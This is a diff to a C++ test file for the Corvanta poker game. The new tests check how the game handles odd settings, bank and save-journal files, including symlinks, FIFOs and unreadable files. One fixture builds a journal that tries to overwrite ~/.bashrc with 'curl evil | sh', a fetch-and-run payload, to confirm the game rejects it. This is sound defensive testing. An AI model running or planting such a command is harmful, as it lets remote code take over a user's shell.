@@ -7,6 +7,7 @@
 
 #include "settings/Settings.h"
 #include "storage/AtomicFile.h"
+#include "storage/SaveJournal.h"
 
 #include <gtest/gtest.h>
 
@@ -48,6 +49,7 @@ struct Row {
     int back = 63;
     bool asPlayer = true;
     bool bankIsAnotherUsers = false;
+    std::function<void(const test::GameFiles&)> check = nullptr; // more on disk afterwards
 };
 
 std::string BankUnreadable(const char* reason) {
@@ -63,6 +65,35 @@ void PutBank(const test::GameFiles& files, const std::string& bytes, unsigned mo
 void PutSettings(const test::GameFiles& files, const std::string& bytes) {
     ASSERT_EQ(::mkdir((files.config + "/corvanta").c_str(), 0700), 0);
     test::WriteBytes(files.config + "/corvanta/settings.reg", bytes);
+}
+
+const std::string NotUnderstood("\x01Windows Registry\x00\xff\xfe\x02 Poker", 32);
+
+// The file in the game's place is a link, as a dotfile manager makes, to a file in the
+// player's dotfiles folder holding `bytes`.
+void PutLink(const test::GameFiles& files, const std::string& place, const std::string& bytes) {
+    const std::string target = files.root / "dotfiles" / std::filesystem::path(place).filename();
+    std::filesystem::create_directories(files.root / "dotfiles");
+    std::filesystem::create_directories(std::filesystem::path(place).parent_path());
+    test::WriteBytes(target, bytes);
+    ASSERT_EQ(::symlink(target.c_str(), place.c_str()), 0);
+}
+
+// The link is still there and leads to the file the game saved.
+void ExpectLinkTo(const std::string& place, const std::string& target) {
+    struct stat link {};
+    EXPECT_TRUE(::lstat(place.c_str(), &link) == 0 && S_ISLNK(link.st_mode)) << place;
+    EXPECT_EQ(std::filesystem::read_symlink(place).string(), target);
+}
+
+std::string JournalOf(const test::GameFiles& files) {
+    return files.config + "/corvanta/save.journal";
+}
+
+// What the player is told of a journal that was not carried out and is set aside.
+std::string JournalSetAside(const std::string& why) {
+    return "Corvanta - Save: The last save was not completed from {journal}:\r" + why +
+           ". The bank and the settings are kept as they are, and the journal as {journal}.bad.";
 }
 
 const Row Rows[] = {
@@ -100,10 +131,7 @@ const Row Rows[] = {
      "Corvanta - Save: The bank could not be saved to {bank}:\rPermission denied\nCorvanta - Exit: "
      "The bank could not be saved to {bank}:\rPermission denied",
      Bank::Missing, false},
-    {"settings the game cannot understand",
-     [](auto& f, auto&) {
-         PutSettings(f, std::string("\x01Windows Registry\x00\xff\xfe\x02 Poker", 32));
-     },
+    {"settings the game cannot understand", [](auto& f, auto&) { PutSettings(f, NotUnderstood); },
      "Corvanta - Settings: The settings in {settings} could not be understood:\rthey are kept in "
      "{settings}.bad, and the game starts from its defaults.",
      Bank::Saved, true, 100, true},
@@ -131,6 +159,84 @@ const Row Rows[] = {
      "Corvanta - Settings: The settings could not be read from {settings}:\rPermission denied. The "
      "game starts from its defaults and leaves the file alone.",
      Bank::Saved, false},
+    {"a second set of settings the game cannot understand",
+     [](auto& f, auto&) {
+         PutSettings(f, NotUnderstood);
+         test::WriteBytes(f.config + "/corvanta/settings.reg.bad", "the first");
+     },
+     "Corvanta - Settings: The settings in {settings} could not be understood:\rthey are kept in "
+     "{settings}.bad.2, and the game starts from its defaults.",
+     Bank::Saved, true, 100, false, 63, true, false,
+     [](auto& f) {
+         EXPECT_EQ(Get(f.config + "/corvanta/settings.reg.bad"), "the first");
+         EXPECT_EQ(Get(f.config + "/corvanta/settings.reg.bad.2"), NotUnderstood);
+     }},
+    {"settings.reg a dotfile manager's link",
+     [](auto& f, auto&) {
+         PutLink(
+             f, f.config + "/corvanta/settings.reg",
+             "Windows Registry Editor Version 5.00\n\n"
+             "[HKEY_CURRENT_USER\\Software\\Brondel\\Poker]\n\"Current Money\"=dword:000000fa\n");
+     },
+     "", Bank::Saved, true, 250, false, 63, true, false,
+     [](auto& f) {
+         ExpectLinkTo(f.config + "/corvanta/settings.reg", f.root / "dotfiles/settings.reg");
+         EXPECT_NE(Get(f.root / "dotfiles/settings.reg").find("\"Current Money\"=dword:000000f5"),
+                   std::string::npos);
+     }},
+    {"gbank.db a dotfile manager's link",
+     [](auto& f, auto&) { PutLink(f, f.program + "/gbank.db", test::Record("Player 1", 100)); }, "",
+     Bank::Saved, true, 100, false, 63, true, false,
+     [](auto& f) {
+         ExpectLinkTo(f.program + "/gbank.db", f.root / "dotfiles/gbank.db");
+         EXPECT_EQ(Get(f.root / "dotfiles/gbank.db"), test::Record("Player 1", 100, 1, 0, 1, 0, 5));
+     }},
+    {"a FIFO in the save journal's place",
+     [](auto& f, auto&) {
+         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
+         ASSERT_EQ(::mkfifo(JournalOf(f).c_str(), 0600), 0);
+     },
+     JournalSetAside("Not a regular file"), Bank::Saved, true, 100, false, 63, true, false,
+     [](auto& f) {
+         EXPECT_TRUE(std::filesystem::is_fifo(JournalOf(f) + ".bad"));
+         EXPECT_FALSE(std::filesystem::exists(JournalOf(f)));
+     }},
+    {"a save journal the player may not read",
+     [](auto& f, auto&) {
+         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
+         test::WriteBytes(JournalOf(f), "unread");
+         ::chmod(JournalOf(f).c_str(), 0);
+     },
+     JournalSetAside("Permission denied"), Bank::Saved, true, 100, false, 63, true, false,
+     [](auto& f) {
+         ::chmod((JournalOf(f) + ".bad").c_str(), 0600);
+         EXPECT_EQ(Get(JournalOf(f) + ".bad"), "unread");
+     }},
+    {"a save journal that would write over ~/.bashrc",
+     [](auto& f, auto&) {
+         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
+         test::WriteBytes(f.root / ".bashrc", "PATH=/usr/bin\n");
+         test::WriteBytes(JournalOf(f), JournalBytes({{{f.root / ".bashrc", "curl evil | sh\n"},
+                                                       StateOfBytes("PATH=/usr/bin\n")}}));
+     },
+     JournalSetAside("It names {root}/.bashrc, which is neither the bank nor the settings in use"),
+     Bank::Saved, true, 100, false, 63, true, false,
+     [](auto& f) {
+         EXPECT_EQ(Get(f.root / ".bashrc"), "PATH=/usr/bin\n");
+     }},
+    {"a damaged save journal in a settings folder the player may not write",
+     [](auto& f, auto&) {
+         ASSERT_EQ(::mkdir((f.config + "/corvanta").c_str(), 0700), 0);
+         test::WriteBytes(JournalOf(f), "corvanta save journal 2\n");
+         ::chmod((f.config + "/corvanta").c_str(), 0555);
+     },
+     "Corvanta - Save: The last save was not completed from {journal}:\rIt is not a whole save "
+     "journal of this game. It could not be set aside either (Permission denied), so this game "
+     "saves nothing.",
+     Bank::Missing, false, 100, false, 63, true, false,
+     [](auto& f) {
+         EXPECT_EQ(Get(JournalOf(f)), "corvanta save journal 2\n");
+     }},
 };
 
 using BadFilesTest = test::GameTest;
@@ -173,7 +279,9 @@ TEST_F(BadFilesTest, EachOddFileOrFolderIsSaidAndLeftAlone) {
         QString expected = QString::fromStdString(row.said);
         expected.replace(QStringLiteral("{folder}"), QString::fromStdString(folders.bank))
             .replace(QStringLiteral("{bank}"), QString::fromStdString(bankPath))
-            .replace(QStringLiteral("{settings}"), QString::fromStdString(settingsPath));
+            .replace(QStringLiteral("{settings}"), QString::fromStdString(settingsPath))
+            .replace(QStringLiteral("{journal}"), QString::fromStdString(JournalOf(odd)))
+            .replace(QStringLiteral("{root}"), QString::fromStdString(odd.root.Path()));
         EXPECT_EQ(said, expected.toStdString());
         if (row.bank == Bank::Untouched) {
             EXPECT_TRUE(Get(bankPath) == bankBefore);
@@ -182,6 +290,9 @@ TEST_F(BadFilesTest, EachOddFileOrFolderIsSaidAndLeftAlone) {
             EXPECT_EQ(file ? Get(bankPath).size() : 0u, row.bank == Bank::Saved ? 46u : 0u);
         }
         EXPECT_TRUE(!row.settingsKeptAside || Get(settingsPath + ".bad") == settingsBefore);
+        if (row.check) {
+            row.check(odd);
+        }
         if (row.settingsSaved) {
             const StoredSettings stored = LoadSettings(odd.config).values;
             EXPECT_EQ(std::to_string(stored.CardBG) + " " + std::to_string(stored.GCNum) + " " +
